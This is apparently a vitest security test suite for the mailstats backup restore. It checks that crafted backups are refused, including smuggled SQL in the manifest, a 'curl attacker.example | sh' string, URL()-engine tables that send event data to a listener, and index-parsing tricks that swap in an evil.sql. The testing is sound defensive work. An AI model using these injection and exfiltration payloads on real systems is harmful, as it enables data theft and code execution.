import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminCli } from '../support/admin-cli.js';
import { Restartable } from '../support/restartable.js';
import { tenant } from '../support/service.js';

const ADMIN = 'trust-admin-token-0123456789-abcdef0123456789';
const HMAC_KEY = 'trust-hmac-key-0123456789-abcdef0123456789';

/**
 * A restore accepts only what mailstats itself writes (docs/lifecycle.md, "What a restore trusts"): a
 * crafted backup on disk — a manifest that smuggles SQL, a store with a table that posts to the network —
 * is refused before the engine runs anything of it, and the data directory stays empty.
 */
describe('restore of a crafted backup', () => {
  const source = new Restartable({ ADMIN_TOKEN: ADMIN });
  const work = mkdtempSync(join(tmpdir(), 'mailstats-trust-'));
  const good = join(work, 'good');
  const evil = join(work, 'evil');
  const keyed = join(work, 'keyed');
  /** Everything the attacker's listener received. */
  const received: string[] = [];
  let listener: Server;
  let listenerUrl = '';

  const env = () => ({ MAILSTATS_URL: source.svc!.url!, ADMIN_TOKEN: ADMIN });
  const emptyTarget = (name: string) => join(work, `target-${name}`);
  /** What an attacker without BACKUP_HMAC_KEY can do: make the manifest's digests those of the files. */
  const redigest = (dir: string) => {
    const file = join(dir, 'mailstats-backup.json');
    const m = JSON.parse(readFileSync(file, 'utf8'));
    const files: Record<string, string> = {};
    const walk = (d: string): void => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        const path = join(d, e.name);
        if (e.isDirectory()) walk(path);
        else if (e.name !== 'mailstats-backup.json')
          files[relative(dir, path)] = createHash('sha256').update(readFileSync(path)).digest('hex');
      }
    };
    walk(dir);
    m.files = files;
    writeFileSync(file, JSON.stringify(m));
  };
  /**
   * A copy of the good backup whose schema_migrations entry in the engine's index is made to read as
   * `dataFile` by the engine, with `evil.sql` beside it: a statement that reaches the listener when run.
   * `benign`: a file holding the real statement, named as a lax reading of the index would take it.
   */
  const crafted = (name: string, dataFile: string, benign: string) => {
    const dir = join(work, name);
    cpSync(good, dir, { recursive: true });
    const meta = join(dir, 'metadata', 'mailstats');
    const original = readFileSync(join(meta, 'schema_migrations.sql'));
    const evilSql = `CREATE TABLE mailstats.schema_migrations AS url('${listenerUrl}exfil', 'CSV')`;
    writeFileSync(join(meta, 'evil.sql'), evilSql);
    writeFileSync(join(meta, benign), original);
    const index = join(dir, '.backup');
    const xml = readFileSync(index, 'utf8');
    const entry = /<file><name>metadata\/mailstats\/schema_migrations\.sql<\/name><size>\d+<\/size>/;
    expect(xml).toMatch(entry);
    writeFileSync(
      index,
      xml.replace(
        entry,
        `<file><name>metadata/mailstats/schema_migrations.sql</name><size>${Buffer.byteLength(evilSql)}</size>` +
          dataFile,
      ),
    );
    redigest(dir);
    return dir;
  };
  const leftIn = (dir: string) => (existsSync(dir) ? readdirSync(dir) : []);

  beforeAll(async () => {
    listener = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${body}`);
        res.end();
      });
    });
    await new Promise<void>((ok) => listener.listen(0, '127.0.0.1', ok));
    const addr = listener.address();
    listenerUrl = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}/`;

    await source.start({ BACKUP_ROOT: work });
    expect(
      (await source.ingest(tenant({ userId: 7, apiKey: 'trust-key', lists: [{ list_id: 1 }] }))).status,
    ).toBe(200);
    const g = await adminCli(['backup', good], env());
    expect(g.code, g.err).toBe(0);

    // The attacker's store: an extra table whose engine posts to the network, fed by a view from events.
    // The service itself takes the backup, so its manifest (and digest) is as genuine as can be.
    const db = source.svc!.db;
    await db.command(`CREATE TABLE leak (event_id String) ENGINE = URL('${listenerUrl}', JSONEachRow)`);
    await db.command('CREATE MATERIALIZED VIEW leak_mv TO leak AS SELECT event_id FROM events');
    const e = await adminCli(['backup', evil], env());
    expect(e.code, e.err).toBe(0);
    await db.command('DROP TABLE leak_mv');
    await db.command('DROP TABLE leak');
    // The embedded engine binds one data directory per process; restores run in their own processes.
    await source.stop();
  }, 180_000);
  afterAll(async () => {
    await source.destroy();
    listener.close();
    rmSync(work, { recursive: true, force: true });
  });

  it('a manifest whose database smuggles statements is refused, and none of them runs', async () => {
    const crafted = join(work, 'injected');
    cpSync(good, crafted, { recursive: true });
    const pwned = join(work, 'pwned.txt');
    const manifest = JSON.parse(readFileSync(join(crafted, 'mailstats-backup.json'), 'utf8'));
    manifest.database =
      `mailstats AS mailstats FROM File('${crafted}'); ` +
      `SELECT 'curl attacker.example | sh' INTO OUTFILE '${pwned}' FORMAT LineAsString --`;
    writeFileSync(join(crafted, 'mailstats-backup.json'), JSON.stringify(manifest));

    const target = emptyTarget('injected');
    const r = await adminCli(['restore', crafted], { DATA_DIR: target });
    expect(r.out).not.toMatch(/restored/);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/"database" .* is not a database name/);
    expect(existsSync(pwned)).toBe(false);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('a store with a table and a view mailstats never creates is refused, naming them', async () => {
    const target = emptyTarget('evil');
    const r = await adminCli(['restore', evil], { DATA_DIR: target });
    expect(r.out).not.toMatch(/restored/);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/not what mailstats creates/);
    expect(r.err).toMatch(/leak /);
    expect(r.err).toMatch(/leak_mv /);
    expect(leftIn(target)).toEqual([]);
    expect(received).toEqual([]);
  }, 120_000);

  it('a table whose statement was changed in the backup is refused, naming it', async () => {
    const crafted = join(work, 'altered');
    cpSync(good, crafted, { recursive: true });
    // The same table name, a network engine: only the statement tells it apart.
    const sql = join(crafted, 'metadata', 'mailstats', 'erasures.sql');
    writeFileSync(
      sql,
      readFileSync(sql, 'utf8').replace(
        /ENGINE = MergeTree .*$/s,
        `ENGINE = URL('${listenerUrl}', JSONEachRow)`,
      ),
    );
    const target = emptyTarget('altered');
    const r = await adminCli(['restore', crafted], { DATA_DIR: target });
    expect(r.code).toBe(2);
    // The digest of the file no longer matches the manifest's: refused before its statement is read.
    expect(r.err).toMatch(/metadata\/mailstats\/erasures\.sql: its SHA-256 does not match the manifest/);
    expect(leftIn(target)).toEqual([]);

    // The attacker rewrites the digest too (no BACKUP_HMAC_KEY to stop that): the statement itself is refused.
    const manifestFile = join(crafted, 'mailstats-backup.json');
    const m = JSON.parse(readFileSync(manifestFile, 'utf8'));
    m.files['metadata/mailstats/erasures.sql'] = createHash('sha256').update(readFileSync(sql)).digest('hex');
    writeFileSync(manifestFile, JSON.stringify(m));
    const again = await adminCli(['restore', crafted], { DATA_DIR: target });
    expect(again.code).toBe(2);
    expect(again.err).toMatch(/not what mailstats creates; refused: erasures \(its statement differs: .*URL/);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('an index entry that names evil.sql through a character reference is refused; nothing of it runs', async () => {
    received.length = 0;
    // A lax reading takes the file literally named `e&#118;il.sql` (the real statement); the engine
    // decodes the reference and would run evil.sql.
    const dir = crafted('entity', '<data_file>metadata/mailstats/e&#118;il.sql</data_file>', 'e&#118;il.sql');
    const target = emptyTarget('entity');
    const r = await adminCli(['restore', dir], { DATA_DIR: target });
    expect(received).toEqual([]);
    expect(r.out).not.toMatch(/restored/);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/\.backup: .* is not what the engine writes in its index/);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('an index entry with two data_file elements is refused; nothing of it runs', async () => {
    received.length = 0;
    // A lax reading joins both ("evil.sql,x"); the engine reads the first.
    const dir = crafted(
      'two-files',
      '<data_file>metadata/mailstats/evil.sql</data_file><data_file>x</data_file>',
      'evil.sql,x',
    );
    const target = emptyTarget('two-files');
    const r = await adminCli(['restore', dir], { DATA_DIR: target });
    expect(received).toEqual([]);
    expect(r.out).not.toMatch(/restored/);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/<data_file> twice in <file>/);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('a url() table in place of a statement of ours is refused before the engine reads the backup', async () => {
    received.length = 0;
    const dir = join(work, 'url-table');
    cpSync(good, dir, { recursive: true });
    writeFileSync(
      join(dir, 'metadata', 'mailstats', 'schema_migrations.sql'),
      `CREATE TABLE mailstats.schema_migrations AS url('${listenerUrl}exfil', 'CSV')`,
    );
    redigest(dir);
    const target = emptyTarget('url-table');
    const r = await adminCli(['restore', dir], { DATA_DIR: target });
    expect(received).toEqual([]);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(
      /not what mailstats creates; refused: schema_migrations \(its statement differs: .*url/,
    );
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('an index that names a base backup is refused before the engine reads the backup', async () => {
    received.length = 0;
    const dir = join(work, 'base-backup');
    cpSync(good, dir, { recursive: true });
    const index = join(dir, '.backup');
    writeFileSync(
      index,
      readFileSync(index, 'utf8').replace(
        '<contents>',
        `<base_backup>S3('${listenerUrl}base/', 'AKIAEXAMPLE', 'secret')</base_backup><contents>`,
      ),
    );
    redigest(dir);
    const target = emptyTarget('base-backup');
    const r = await adminCli(['restore', dir], { DATA_DIR: target });
    expect(received).toEqual([]);
    expect(r.code, r.err).toBe(2);
    expect(r.err).toMatch(/\.backup\b.*base.?backup/);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('restore --erasures refuses an erasure time in the future, as erase --at does', async () => {
    const file = join(work, 'future-erasures.csv');
    writeFileSync(file, 'list_id,subscriber_id,erased_at\n1,5,2099-01-01T00:00:00Z\n');
    const target = emptyTarget('future');
    const r = await adminCli(['restore', good, '--erasures', file], { DATA_DIR: target });
    expect(r.out).not.toMatch(/restored/);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/erased_at 2099-01-01T00:00:00\.000Z is in the future/);
    expect(leftIn(target)).toEqual([]);
  }, 120_000);

  it('a backup restores when it is what mailstats wrote', async () => {
    const target = emptyTarget('good');
    const r = await adminCli(['restore', good], { DATA_DIR: target });
    expect(r.code, r.err).toBe(0);
    expect(r.out).toMatch(/restored .* into /);
  }, 120_000);

  it('a backup swapped for another after it was verified is never read: the verified one is restored', async () => {
    // A signed backup of a store with list 55, and (the good one) an unsigned backup of another store.
    const signed = join(work, 'signed');
    const svc = new Restartable({ ADMIN_TOKEN: ADMIN });
    try {
      await svc.start({ BACKUP_ROOT: work, BACKUP_HMAC_KEY: HMAC_KEY });
      expect(
        (await svc.ingest(tenant({ userId: 8, apiKey: 'signed-key', lists: [{ list_id: 55 }] }))).status,
      ).toBe(200);
      const b = await adminCli(['backup', signed], { MAILSTATS_URL: svc.svc!.url!, ADMIN_TOKEN: ADMIN });
      expect(b.code, b.err).toBe(0);
    } finally {
      await svc.destroy();
    }
    const other = join(work, 'swap-other');
    cpSync(good, other, { recursive: true });
    // The watcher: once DATA_DIR appears (the backup has been verified by then), the signed backup's
    // path is made to hold the other store's backup.
    const restored = new Restartable({ ADMIN_TOKEN: ADMIN });
    let swapped = false;
    const watch = setInterval(() => {
      if (swapped || !existsSync(restored.dir)) return;
      renameSync(signed, join(work, 'signed-aside'));
      renameSync(other, signed);
      swapped = true;
    }, 2);
    // DATA_DIR must not exist before the restore for the watcher to see it appear.
    rmSync(restored.dir, { recursive: true, force: true });
    let r;
    try {
      r = await adminCli(['restore', signed], { DATA_DIR: restored.dir, BACKUP_HMAC_KEY: HMAC_KEY });
    } finally {
      clearInterval(watch);
    }
    expect(swapped).toBe(true);
    expect(r.code, r.err).toBe(0);
    try {
      await restored.start({ BACKUP_ROOT: work });
      const lists = await restored.svc!.db.query<{ list_id: number }>(
        'SELECT DISTINCT list_id FROM catalog WHERE list_id > 0 ORDER BY list_id',
        {},
        { output_format_json_quote_64bit_integers: 0 },
      );
      // The signed store's list, not the other store's.
      expect(lists.map((l) => l.list_id)).toEqual([55]);
    } finally {
      await restored.destroy();
    }
  }, 300_000);

  it('with BACKUP_HMAC_KEY: a backup signed with it restores; unsigned, edited or another key is refused', async () => {
    const svc = new Restartable({ ADMIN_TOKEN: ADMIN });
    try {
      await svc.start({ BACKUP_ROOT: work, BACKUP_HMAC_KEY: HMAC_KEY });
      const b = await adminCli(['backup', keyed], { MAILSTATS_URL: svc.svc!.url!, ADMIN_TOKEN: ADMIN });
      expect(b.code, b.err).toBe(0);
    } finally {
      await svc.destroy();
    }
    const ok = await adminCli(['restore', keyed], {
      DATA_DIR: emptyTarget('keyed'),
      BACKUP_HMAC_KEY: HMAC_KEY,
    });
    expect(ok.code, ok.err).toBe(0);

    const other = await adminCli(['restore', keyed], {
      DATA_DIR: emptyTarget('other-key'),
      BACKUP_HMAC_KEY: 'another-hmac-key-0123456789-abcdef012345',
    });
    expect(other.code).toBe(2);
    expect(other.err).toMatch(/signature does not match BACKUP_HMAC_KEY/);

    const unsigned = await adminCli(['restore', good], {
      DATA_DIR: emptyTarget('unsigned'),
      BACKUP_HMAC_KEY: HMAC_KEY,
    });
    expect(unsigned.code).toBe(2);
    expect(unsigned.err).toMatch(/is not signed, and BACKUP_HMAC_KEY is set/);

    // An attacker who rewrites a file and its digest in the manifest still cannot sign it.
    const edited = join(work, 'keyed-edited');
    cpSync(keyed, edited, { recursive: true });
    const m = JSON.parse(readFileSync(join(edited, 'mailstats-backup.json'), 'utf8'));
    m.created_at = '2020-01-01T00:00:00.000Z';
    writeFileSync(join(edited, 'mailstats-backup.json'), JSON.stringify(m));
    const e = await adminCli(['restore', edited], {
      DATA_DIR: emptyTarget('edited'),
      BACKUP_HMAC_KEY: HMAC_KEY,
    });
    expect(e.code).toBe(2);
    expect(e.err).toMatch(/signature does not match BACKUP_HMAC_KEY/);
  }, 300_000);
});
